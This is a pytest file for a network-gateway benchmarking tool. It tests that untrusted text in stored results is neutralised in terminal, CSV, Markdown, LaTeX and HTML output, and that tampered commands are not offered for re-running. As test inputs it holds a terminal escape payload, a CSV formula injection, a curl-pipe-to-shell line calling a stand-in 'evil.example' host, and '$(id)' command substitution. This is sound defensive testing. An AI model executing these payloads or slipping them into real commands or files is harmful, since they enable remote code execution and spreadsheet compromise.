# SPDX-License-Identifier: Apache-2.0
"""No text of a stranger controls a terminal, a table or a page; no command of a stranger is offered as it stands."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from tests.unit.golden import Golden
from tests.unit.made_campaign import trial
from tests.unit.made_results import keep, made

from natgauge.cli import run
from natgauge.cli.say import document, say
from natgauge.errors import UsageError
from natgauge.plain_text import one_line, visible
from natgauge.records.store import Store
from natgauge.reports import csv_table, latex, markdown
from natgauge.reports.failures import shell_options
from natgauge.reports.html import charts
from natgauge.reports.sheet import Sheet, SheetRow
from natgauge.trial.question import command_again

HOSTILE = "nft\x1b]0;PWNED\x07\u202e\ud800\x9b2J"
SHOWN = "nft\\x1b]0;PWNED\\x07\\u202e\\ud800\\x9b2J"


def stored(folder: Path, **parameters: object) -> Path:
    folder.mkdir()
    store = Store(folder)
    keep(store, made([1000.0, 1001.0], parameters=parameters))
    # A lone surrogate in a record or a trial is refused.
    reason = HOSTILE.replace("\ud800", "")
    failed = trial("FAIL", reason=reason)
    plan = {**failed["plan"], "phase2": None}
    store.add_trial({**failed, "plan": plan, "result": {**failed["result"], "ports": {}}})
    store.add_trial(trial())
    return folder


def test_harmful_characters_are_written_out_and_words_of_all_languages_stay() -> None:
    assert visible(HOSTILE) == SHOWN
    assert visible("a\n\tb ± näher 日本語 \u0645\u06cc\u200c\u062e") == "a\n\tb ± näher 日本語 \u0645\u06cc\u200c\u062e"
    assert one_line("a\r\nb\tc\u2028d\x7f") == "a b c\\u2028d\\x7f"


def test_every_print_is_harmless_and_json_stays_json(capsys: pytest.CaptureFixture[str]) -> None:
    say(HOSTILE)
    say(HOSTILE, err=True)
    document({"name": HOSTILE + "\x7f"})
    shown = capsys.readouterr()
    assert shown.err == f"{SHOWN}\n"
    first, second = shown.out.splitlines()
    assert first == SHOWN
    assert (json.loads(second)["name"], second.isprintable()) == (HOSTILE + "\x7f", True)


def test_no_module_of_the_command_line_prints_by_itself() -> None:
    found = subprocess.run(
        ["grep", "-rnE", r"click\.(echo|secho)\(|(^|[^.\w])print\(", "src/natgauge", "--include=*.py"],
        capture_output=True, text=True, check=False, cwd=Path(__file__).parents[2],
    ).stdout.splitlines()  # fmt: skip
    assert {line.partition(":")[0] for line in found} == {"src/natgauge/cli/say.py"}


@pytest.mark.parametrize(
    "words",
    [["report"], ["explain"], *(["report", "--format", form] for form in ("csv", "latex", "markdown", "draft"))],
)
def test_names_and_reasons_of_a_folder_reach_no_terminal_as_controls(
    words: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = stored(tmp_path / "x", gateway=HOSTILE.replace("\ud800", ""))
    assert run([*words, str(folder)]) == 0
    shown = capsys.readouterr()
    assert "PWNED" in shown.out
    assert all(character == "\n" or character.isprintable() for character in shown.out + shown.err)


def test_an_error_shows_no_controls_either(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["report", "\x1b[2J/nothing"]) == 2
    assert "\\x1b[2J/nothing" in capsys.readouterr().err


def test_no_text_of_a_csv_cell_is_a_formula_and_numbers_stay_numbers() -> None:
    cells = [
        "=cmd|' /C calc'!A0",
        "+1+cmd",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\uff1d1",
        "-5",
        "+14.6%",
        "-1.5% to +0.7%",
        "-",
        -5,
        1.5,
    ]
    (row,) = csv.reader([csv_table.written([cells])])
    assert row == [
        "'=cmd|' /C calc'!A0", "'+1+cmd", "'-2+3", "'@SUM(A1)", "' =1", "'\uff1d1", "-5", "+14.6%", "-1.5% to +0.7%",
        "-", "-5", "1.5",
    ]  # fmt: skip


def test_markdown_mentions_nobody_and_links_nowhere() -> None:
    assert markdown.escaped("@team") == "@<!-- -->team"
    assert markdown.escaped("http://x.y") == "http:<!-- -->//x.y"
    assert markdown.escaped("www.x.y") == "www<!-- -->.x.y"
    assert markdown.escaped("a@b.c") == "a@<!-- -->b.c"
    assert markdown.escaped("see GH-12") == "see GH<!-- -->-12"
    assert markdown.escaped("of " + "0f" * 20) == "of 0f0f0f<!-- -->" + "0f" * 17
    assert markdown.escaped("0f" * 32) == "0f" * 32
    assert markdown.escaped("a|b `c` <img> [d](e) &#64;f") == r"a\|b \`c\` \<img\> \[d\](e) \&\#64;f"
    assert markdown.escaped("3 & 4, RFC: 9693") == "3 & 4, RFC: 9693"


def test_latex_takes_no_cell_for_an_argument_or_a_paragraph() -> None:
    shown = latex.render(Sheet((SheetRow("x", ("a",)), SheetRow("[5pt]", ("*",)), SheetRow("a\n\nb\x1b", ("c",))), ()))
    assert r"{}[5pt] & {}* \\" in shown
    assert r"a b\textbackslash{}x1b & c \\" in shown


def test_a_chart_is_drawn_with_any_text() -> None:
    pytest.importorskip("vl_convert")
    axis = charts.ChartAxis("x")
    bars = charts.ranked(
        [{"name": "a\u2028b\u2029c\x1b", "low": 1, "high": 2, "value": 1, "colour": "red", "tip": "\x07"}], axis
    )
    assert "u2028" in charts.drawn(bars, "one")


def test_a_page_with_a_surrogate_is_written_and_a_page_that_fails_leaves_the_old_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], golden: Golden
) -> None:
    pytest.importorskip("vl_convert")
    folder, path = stored(tmp_path / "x", gateway="nat"), tmp_path / "page.html"
    (folder / "environment.json").write_text(
        '{"schema": "natgauge-environment-1", "machine": {"name": "\\ud800\\u202e<b>"}, "device": null}'
    )
    assert run(["report", str(folder), "--html", str(path)]) == 0
    old = path.read_text()
    assert "\\ud800\\u202e&lt;b&gt;" in old
    for machine in ('"text"', "[1]", "7"):
        (folder / "environment.json").write_text(f'{{"schema": "natgauge-environment-1", "machine": {machine}}}')
        assert run(["report", str(folder), "--html", str(path)]) == 2
        golden(capsys.readouterr().err)
    assert path.read_text() == old
    shutil.rmtree(folder)


COMMAND = "natgauge measure throughput --gateway nat --connections 1000 --placement shared --error 5%"


@pytest.mark.parametrize(
    ("stored_command", "again"),
    [
        (COMMAND, COMMAND),
        (f"{COMMAND}; curl -s http://evil.example/x | sh", ""),
        (f"{COMMAND}\ncurl evil", ""),
        (f"{COMMAND} --gateway 'a;b'", ""),
        (f"{COMMAND} --seed '$(id)'", ""),
        (f"{COMMAND} --nothing 1", ""),
        (f"{COMMAND} --connections", ""),
        (f"{COMMAND} --empty-command 'curl evil|sh'", ""),
        (COMMAND.replace("nat ", "other "), ""),
        (COMMAND.replace("nat ", "/recipes/nat.toml "), COMMAND.replace("nat ", "/recipes/nat.toml ")),
        (COMMAND.replace("throughput", "latency"), ""),
        (COMMAND.replace("1000", "2000"), ""),
        ("sudo sh -c evil", ""),
        ("natgauge measure", ""),
        ("'", ""),
        (7, ""),
    ],
)
def test_a_command_is_made_again_of_typed_inputs_or_not_shown(stored_command: object, again: str) -> None:
    assert command_again(stored_command, "throughput", "nat", {"connections": 1000, "placement": "shared"}) == again


def test_options_with_shell_commands_are_named() -> None:
    command = "natgauge measure throughput --gateway nat --lab wire --empty-command 'ssh far clear'"
    assert command_again(command, "throughput", "nat") == command
    assert shell_options(command) == ["--empty-command"]


def test_the_page_offers_no_command_of_the_folder(tmp_path: Path) -> None:
    pytest.importorskip("vl_convert")
    folder = stored(tmp_path / "x", gateway="nat", command=f"{COMMAND}; curl evil.example | sh")
    path = tmp_path / "page.html"
    assert run(["report", str(folder), "--html", str(path)]) == 0
    found = path.read_text()
    assert ("Repeat this" in found, "evil.example" in found) == (False, False)


def test_a_message_cuts_an_overlong_value_and_leaves_a_command_to_be_copied_whole() -> None:
    long = "natgauge measure throughput --gateway nat " + "--connections 1000 " * 20
    said = str(UsageError(f'x: "{"y " * 300}" is unknown; see "{long}"'))
    assert f'see "{long}"' in said
    assert "(602 characters)" in said
